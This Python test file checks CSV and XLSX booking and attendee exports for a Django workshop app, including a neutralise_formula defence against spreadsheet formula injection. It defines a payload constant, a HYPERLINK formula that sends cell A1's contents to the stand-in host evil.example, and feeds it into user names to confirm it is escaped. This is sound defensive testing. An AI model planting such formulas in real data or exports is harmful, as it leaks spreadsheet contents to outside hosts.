"""CSV and XLSX exports of bookings: content, filters, formula injection."""

import csv
import datetime as dt
import io
import zoneinfo

import openpyxl
import pytest
from django.urls import reverse

from home.exports import neutralise_formula
from workshops import services

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def url(name: str, *args) -> str:
    return reverse(f"workshops_admin:{name}", args=args)


@pytest.fixture
def workshop(make_workshop):
    page = make_workshop(capacity=2, title="Lisbon briefing", time_zone="Europe/Lisbon")
    return services.workshop_record(page)


def download(response) -> bytes:
    assert response.status_code == 200
    return (
        b"".join(response.streaming_content)
        if response.streaming
        else (response.content)
    )


def csv_rows(response) -> list[dict[str, str]]:
    text = download(response).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def xlsx_rows(response) -> list[dict[str, object]]:
    workbook = openpyxl.load_workbook(io.BytesIO(download(response)))
    sheet = workbook.active
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def xlsx_cells(response):
    workbook = openpyxl.load_workbook(io.BytesIO(download(response)))
    return list(workbook.active.iter_rows())


def test_csv_export_has_one_row_per_booking_of_the_filtered_workshop(
    coordinator_client, workshop, make_workshop, make_user
):
    other = services.workshop_record(make_workshop(title="Elsewhere"))
    services.book_seats(other, make_user(full_name="Not Exported"))
    services.book_seats(
        workshop,
        make_user(
            full_name="Ana Quispe", email="ana@example.org", organisation="CEPAIM"
        ),
        2,
        ["Ana Quispe", "Luis Mamani"],
    )
    response = coordinator_client.get(
        url("bookings"), {"workshop": workshop.pk, "export": "csv"}
    )
    rows = csv_rows(response)
    assert response["Content-Disposition"].startswith("attachment")
    assert [(r["Name"], r["Email"], r["Organisation"]) for r in rows] == [
        ("Ana Quispe", "ana@example.org", "CEPAIM")
    ]
    assert rows[0]["Seats"] == "2"
    assert rows[0]["Attendee names"] == "Ana Quispe; Luis Mamani"
    assert rows[0]["Status"] == "Confirmed"
    assert rows[0]["Workshop"] == "Lisbon briefing"


def test_csv_export_gives_start_in_the_workshop_time_zone(
    coordinator_client, workshop, make_user
):
    services.book_seats(workshop, make_user())
    rows = csv_rows(
        coordinator_client.get(
            url("bookings"), {"workshop": workshop.pk, "export": "csv"}
        )
    )
    local = workshop.starts_at.astimezone(zoneinfo.ZoneInfo("Europe/Lisbon"))
    assert rows[0]["Time zone"] == "Europe/Lisbon"
    assert rows[0]["Start (local time)"] == local.replace(tzinfo=None).isoformat(
        sep=" "
    )


def test_csv_export_starts_with_a_byte_order_mark_for_excel(
    coordinator_client, workshop, make_user
):
    services.book_seats(workshop, make_user(full_name="Inês Conceição"))
    content = download(
        coordinator_client.get(
            url("bookings"), {"workshop": workshop.pk, "export": "csv"}
        )
    )
    assert content.startswith(b"\xef\xbb\xbfWorkshop,")
    assert "Inês Conceição" in content.decode("utf-8-sig")


def test_csv_export_follows_the_status_filter(coordinator_client, workshop, make_user):
    services.book_seats(workshop, make_user(full_name="Seated"), 2, ["A", "B"])
    services.book_seats(workshop, make_user(full_name="Waiting One"))
    rows = csv_rows(
        coordinator_client.get(
            url("bookings"),
            {"workshop": workshop.pk, "status": "waitlisted", "export": "csv"},
        )
    )
    assert [(r["Name"], r["Waiting list position"]) for r in rows] == [
        ("Waiting One", "1")
    ]


def test_xlsx_export_opens_with_the_bookings(coordinator_client, workshop, make_user):
    services.book_seats(workshop, make_user(full_name="Ana Quispe"))
    services.book_seats(workshop, make_user(full_name="Bea Rojas"))
    response = coordinator_client.get(
        url("bookings"), {"workshop": workshop.pk, "export": "xlsx"}
    )
    rows = xlsx_rows(response)
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml"
    )
    assert [r["Name"] for r in rows] == ["Ana Quispe", "Bea Rojas"]
    assert rows[0]["Seats"] == 1
    assert isinstance(rows[0]["Start (local time)"], dt.datetime)
    assert rows[0]["People checked in"] == 0


def test_xlsx_export_is_not_paginated(coordinator_client, make_workshop, make_user):
    record = services.workshop_record(make_workshop(capacity=100))
    for _i in range(55):
        services.book_seats(record, make_user())
    rows = xlsx_rows(
        coordinator_client.get(
            url("bookings"), {"workshop": record.pk, "export": "xlsx"}
        )
    )
    assert len(rows) == 55


def test_export_with_invalid_filters_is_refused(coordinator_client):
    response = coordinator_client.get(
        url("bookings"), {"workshop": "not-a-number", "export": "csv"}
    )
    assert response.status_code == 400


# -- formula injection -----------------------------------------------------


@pytest.mark.parametrize(
    "value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", INJECTION]
)
def test_neutralise_formula_prefixes_formula_like_text(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["Ana Quispe", "", 3, None, "a=b", "José-María"])
def test_neutralise_formula_leaves_other_values_alone(value):
    assert neutralise_formula(value) == value


def test_csv_export_neutralises_formula_in_names(
    coordinator_client, workshop, make_user
):
    services.book_seats(
        workshop, make_user(full_name=INJECTION, organisation="@evil"), 1, []
    )
    row = csv_rows(
        coordinator_client.get(
            url("bookings"), {"workshop": workshop.pk, "export": "csv"}
        )
    )[0]
    assert row["Name"] == "'" + INJECTION
    assert row["Organisation"] == "'@evil"
    assert row["Attendee names"] == "'" + INJECTION


def test_xlsx_export_stores_formula_like_names_as_text(
    coordinator_client, workshop, make_user
):
    services.book_seats(workshop, make_user(full_name=INJECTION), 1, [])
    header, row = xlsx_cells(
        coordinator_client.get(
            url("bookings"), {"workshop": workshop.pk, "export": "xlsx"}
        )
    )
    name = row[[cell.value for cell in header].index("Name")]
    assert name.value == INJECTION
    assert name.data_type == "s"


def test_attendee_csv_export_neutralises_formula(
    coordinator_client, workshop, make_user
):
    services.book_seats(workshop, make_user(full_name="-2+3"), 1, [])
    row = csv_rows(
        coordinator_client.get(url("attendees", workshop.pk), {"export": "csv"})
    )[0]
    assert row["Name"] == "'-2+3"


# -- attendee list export --------------------------------------------------


def test_attendee_export_lists_confirmed_then_waiting_then_cancelled(
    coordinator_client, workshop, make_user
):
    cancelled = services.book_seats(workshop, make_user(full_name="Gone Person"))
    services.cancel_booking(cancelled, by=cancelled.user)
    services.book_seats(workshop, make_user(full_name="Seated"), 2, ["A", "B"])
    services.book_seats(workshop, make_user(full_name="Waiting First"))
    services.book_seats(workshop, make_user(full_name="Waiting Second"))
    rows = csv_rows(
        coordinator_client.get(url("attendees", workshop.pk), {"export": "csv"})
    )
    assert [(r["Name"], r["Status"], r["Waiting list position"]) for r in rows] == [
        ("Seated", "Confirmed", ""),
        ("Waiting First", "On the waiting list", "1"),
        ("Waiting Second", "On the waiting list", "2"),
        ("Gone Person", "Cancelled", ""),
    ]


def test_attendee_xlsx_export_records_attendance(
    coordinator_client, coordinator, workshop, make_user
):
    booking = services.book_seats(
        workshop, make_user(full_name="Came Along"), 2, ["Came Along", "Stayed Home"]
    )
    services.check_in(booking, [0], by=coordinator)
    rows = xlsx_rows(
        coordinator_client.get(url("attendees", workshop.pk), {"export": "xlsx"})
    )
    assert [(r["Name"], r["People checked in"]) for r in rows] == [("Came Along", 1)]


def test_attendee_export_in_unknown_format_is_refused(coordinator_client, workshop):
    response = coordinator_client.get(url("attendees", workshop.pk), {"export": "pdf"})
    assert response.status_code == 400
